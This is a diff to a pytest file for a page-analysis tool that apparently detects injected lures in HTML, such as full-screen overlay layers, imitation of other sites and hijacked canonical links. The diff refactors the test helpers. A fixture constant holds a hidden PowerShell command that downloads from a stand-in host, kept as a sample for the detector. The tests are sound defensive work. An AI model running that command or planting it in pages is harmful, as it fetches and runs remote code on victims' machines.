@@ -4,6 +4,8 @@ from __future__ import annotations
 
 import pytest
 
+from pagegrade.model.document import Document
+from pagegrade.parse.html.injected_content import foreign_links
 from pagegrade.parse.html.injected_lures import find_lures
 from pagegrade.parse.html.parser import parties_of_document
 from tests.builders import make_document
@@ -13,10 +15,15 @@ LAYER = "position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999"
 LOADER = "powershell -w hidden -c iwr https://x.example/a"
 
 
+def found_in(document: Document) -> set[str]:
+    """Kinds of what is found in a document."""
+    parties = parties_of_document(document)
+    return {one.kind for one in find_lures(document, parties, foreign_links(document, parties))}
+
+
 def kinds(html: str, *, head: str = HEAD) -> set[str]:
     """Kinds of what is found in a page."""
-    document = make_document(head + html)
-    return {one.kind for one in find_lures(document, parties_of_document(document))}
+    return found_in(make_document(head + html))
 
 
 @pytest.mark.parametrize(
@@ -233,8 +240,7 @@ OTHERS = "<img src=https://www.zahlwerk.example/logo.png>" + "<a href=https://ww
 
 def imitates(page: str, url: str) -> bool:
     """Return whether a page at an address is made to look like another site."""
-    document = make_document(page, url=url)
-    return any(one.kind == "imitation" for one in find_lures(document, parties_of_document(document)))
+    return "imitation" in found_in(make_document(page, url=url))
 
 
 @pytest.mark.parametrize(
@@ -267,8 +273,7 @@ OWN = "<meta property=og:url content=https://example.com/b><a href=/a>1</a><a hr
 
 def is_taken(head: str, url: str = "https://example.com/b") -> bool:
     """The canonical link leads to a site that nothing else of the page knows."""
-    document = make_document(f"<title>x</title>{head}", url=url)
-    return any(one.kind == "taken-canonical" for one in find_lures(document, parties_of_document(document)))
+    return "taken-canonical" in found_in(make_document(f"<title>x</title>{head}", url=url))
 
 
 @pytest.mark.parametrize("text", ["Surat domisili", "Услуги", "住民票", "الخدمات", "บริการ", "Bürgerbüro"])
